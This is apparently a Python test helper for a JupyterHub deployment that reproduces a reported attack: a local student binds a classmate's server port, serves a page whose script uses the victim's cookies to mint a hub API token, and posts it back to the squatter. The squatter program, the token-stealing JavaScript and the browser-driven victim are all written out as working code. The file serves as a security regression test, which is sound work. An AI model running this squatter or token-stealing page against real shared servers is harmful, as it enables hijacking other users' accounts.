"""Issue 49's attack on the hub, for tests/deploy/test_hub.py: a student squats a classmate's server address.

The squatter is student B, an unprivileged local user, running a program of their own
(SQUATTER, with Debian's python3 and nothing else). It is told, on its stdin, which
address and port to take:

- `squat IP PORT`: bind with SO_REUSEADDR and do not listen (a check that binds with
  SO_REUSEADDR finds the port free), then listen the moment the victim's server process
  appears in /proc, before that server has bound its port;
- `listen IP PORT`: bind and listen at once.

Whatever connects gets B's page: with B's own certificate when B has one (the one the hub
made for B's own server, read from B's own process), else plain HTTP. In the victim's
browser that page runs on the hub's origin: it reads the xsrf token from /hub/home, asks
/hub/api/users/VICTIM/tokens for a new token with the victim's cookies, and posts what it
got to /user/VICTIM/stolen, which is B's server again. The program prints one JSON line a
thing that happened (listening, a request, a token, a TLS handshake that failed).

The victim is a real browser (Debian's chromium through playwright, as tests/browser/test_browser.py
runs it): it logs in with the victim's password through the hub's form and opens
/hub/spawn, as a student starting their server does.

Left out: any other way in (this is the port and the address, nothing else).
"""

import json
import queue
import subprocess
import threading
import time
from pathlib import Path

CHROMIUM = Path("/usr/bin/chromium")
BROWSER_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", "--no-first-run"]

PAGE = r"""<!doctype html><html><body><h1 id="squatter">the squatter's page</h1><script>
(async () => {
  const victim = location.pathname.split('/')[2];
  let report;
  try {
    const home = await (await fetch('/hub/home', {credentials: 'same-origin'})).text();
    const xsrf = (home.match(/xsrf_token: "([^"]*)"/) || [])[1] || '';
    const made = await fetch(`/hub/api/users/${victim}/tokens`, {
      method: 'POST', credentials: 'same-origin',
      headers: {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'},
      body: JSON.stringify({note: 'made by the squatter', expires_in: 3600})});
    report = {status: made.status, answer: await made.text()};
  } catch (error) {
    report = {status: 0, answer: String(error)};
  }
  await fetch(`/user/${victim}/stolen`, {method: 'POST', body: JSON.stringify(report)});
})();
</script></body></html>
"""

SQUATTER = r"""
import http.server, json, os, socket, ssl, sys, threading, time
victim_uid, certfile, keyfile, page = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
lock = threading.Lock()


def say(**what):
    with lock:
        print(json.dumps(what), flush=True)


class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        say(event="request", method="GET", path=self.path)
        self.answer(page.encode(), "text/html")

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode(errors="replace")
        say(event="stolen" if self.path.endswith("/stolen") else "request", method="POST",
            path=self.path, body=body)
        self.answer(b"{}", "application/json")

    def answer(self, body, kind):
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class Server(http.server.ThreadingHTTPServer):
    def get_request(self):
        try:
            return super().get_request()
        except ssl.SSLError as error:
            say(event="tls refused", reason=str(error))
            raise


context = None
if certfile:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certfile, keyfile)


def bound(ip, port):
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((ip, port))
    return sock


def serve(sock):
    try:
        sock.listen(64)
    except OSError as error:
        say(event="listen failed", address=list(sock.getsockname()), reason=str(error))
        return
    address = sock.getsockname()
    server = Server(address, Page, bind_and_activate=False)
    server.socket.close()
    server.socket = context.wrap_socket(sock, server_side=True) if context else sock
    say(event="listening", address=list(address), tls=bool(context))
    server.serve_forever()


def victims_server_is_there():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/status") as status:
                uid = int(status.read().split("\nUid:")[1].split()[0])
            if uid != victim_uid:
                continue
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                if b"jupyterhub-singleuser" in cmdline.read():
                    return True
        except (OSError, IndexError, ValueError):
            continue
    return False


squats = []


def commands():
    for line in sys.stdin:
        how, ip, port = line.split()
        try:
            sock = bound(ip, int(port))
        except OSError as error:
            say(event="bind failed", address=[ip, int(port)], reason=str(error))
            continue
        if how == "squat":
            squats.append(sock)
            say(event="squatting", address=[ip, int(port)])
        else:
            threading.Thread(target=serve, args=(sock,), daemon=True).start()


threading.Thread(target=commands, daemon=True).start()
say(event="ready")
while True:
    if squats and victims_server_is_there():
        say(event="the victim's server started")
        while squats:
            threading.Thread(target=serve, args=(squats.pop(),), daemon=True).start()
    time.sleep(0.005)
"""


class Squatter:
    """SQUATTER running as `student`, against the server of the user with uid `victim_uid`."""

    def __init__(self, python: Path, student: str, victim_uid: int, cert: tuple = ("", "")):
        self.process = subprocess.Popen(
            [str(python), "-c", SQUATTER, str(victim_uid), cert[0], cert[1], PAGE],
            user=student, group=student, extra_groups=[], cwd="/", env={"PATH": "/usr/bin:/bin"},
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        self.events, self._lines = [], queue.Queue()
        threading.Thread(target=self._read, daemon=True).start()
        self.wait_for("ready")

    def _read(self) -> None:
        for line in self.process.stdout:
            try:
                event = json.loads(line)
            except ValueError:
                event = {"event": "output", "text": line.rstrip()}
            self.events.append(event)
            self._lines.put(event)

    def wait_for(self, name: str, timeout: float = 20) -> dict:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                event = self._lines.get(timeout=0.2)
            except queue.Empty:
                if self.process.poll() is not None:
                    break
                continue
            if event["event"] == name:
                return event
        raise TimeoutError(f"the squatter never said {name!r}: {self.events}")

    def take(self, how: str, ip: str, port: int) -> None:
        self.process.stdin.write(f"{how} {ip} {port}\n")
        self.process.stdin.flush()

    def seen(self, name: str) -> list:
        return [event for event in self.events if event["event"] == name]

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.kill()
        self.process.wait()


def victim_in_a_browser(base_url: str, name: str, password: str, opens: str, seconds: float,
                        shot: Path) -> dict:
    """The victim logs in through the hub's form and opens `opens` (/hub/spawn: starts their
    server); where the page got.

    Watched for `seconds`: "squatter" (B's page opened), "own server" (JupyterLab at
    /user/NAME/lab), "failed" (the hub's page says the start failed), or "waiting".
    """
    from playwright.sync_api import sync_playwright
    outcome, url = "waiting", ""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=BROWSER_ARGS)
        page = browser.new_page()
        try:
            page.goto(f"{base_url}/hub/login", timeout=60_000)
            page.fill("#username_input", name)
            page.fill("#password_input", password)
            page.click("#login_submit")
            page.wait_for_load_state(timeout=60_000)
            page.goto(f"{base_url}{opens}", timeout=60_000, wait_until="commit")
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline and outcome == "waiting":
                page.wait_for_timeout(500)
                outcome = where(page, name)
            if outcome == "squatter":
                page.wait_for_timeout(3000)   # the page's script posts what it made
            url = page.url
        finally:
            page.screenshot(path=str(shot))
            browser.close()
    return {"outcome": outcome, "url": url}


def where(page, name: str) -> str:
    try:
        if page.locator("#squatter").count():
            return "squatter"
        if f"/user/{name}/lab" in page.url and page.locator(".jp-LabShell").count():
            return "own server"
        text = page.locator("body").inner_text(timeout=1000)
    except Exception:  # noqa: BLE001  a page in the middle of a navigation: look again
        return "waiting"
    return "failed" if "Spawn failed" in text or "failed to start" in text else "waiting"
